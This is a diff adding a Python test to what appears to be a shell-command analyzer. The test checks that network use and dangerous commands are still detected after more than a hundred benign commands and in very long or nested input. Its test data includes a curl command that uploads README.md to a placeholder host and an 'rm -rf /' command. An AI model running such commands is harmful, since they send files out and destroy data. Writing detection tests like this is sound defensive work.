@@ -163,6 +163,20 @@ def test_the_outline_names_programs_files_and_network(plain: Disk):
     )
 
 
+def test_what_stands_behind_a_hundred_commands_is_in_the_outline(plain: Disk):
+    script = "; ".join(["echo a"] * 104) + "; curl -d @README.md https://x.example > sent; rm -rf /"
+    outline = read(script, plain).outline
+    assert outline.network == ("curl",) and outline.writes == ("sent", "/")
+    assert outline.total == 106 and len(outline.commands) == 100 and not outline.whole
+    assert [(c.program, c.network, c.danger) for c in outline.commands[-3:]] == [
+        ("echo", False, False), ("curl", True, False), ("rm", False, True),
+    ]  # fmt: skip
+    assert read("> a.txt", plain).outline.writes == ("a.txt",)
+    for long in ("echo " + "a" * 9000 + "; curl -s x.example", "curl $(echo" * 101 + ")" * 101):
+        outline = read(long, plain).outline
+        assert outline.network == ("curl",) and not outline.whole
+
+
 def test_a_pattern_counts_as_the_names_it_stands_for(tmp_path: Path):
     ground = Disk(str(tmp_path))
     (tmp_path / "a.txt").write_text("a")
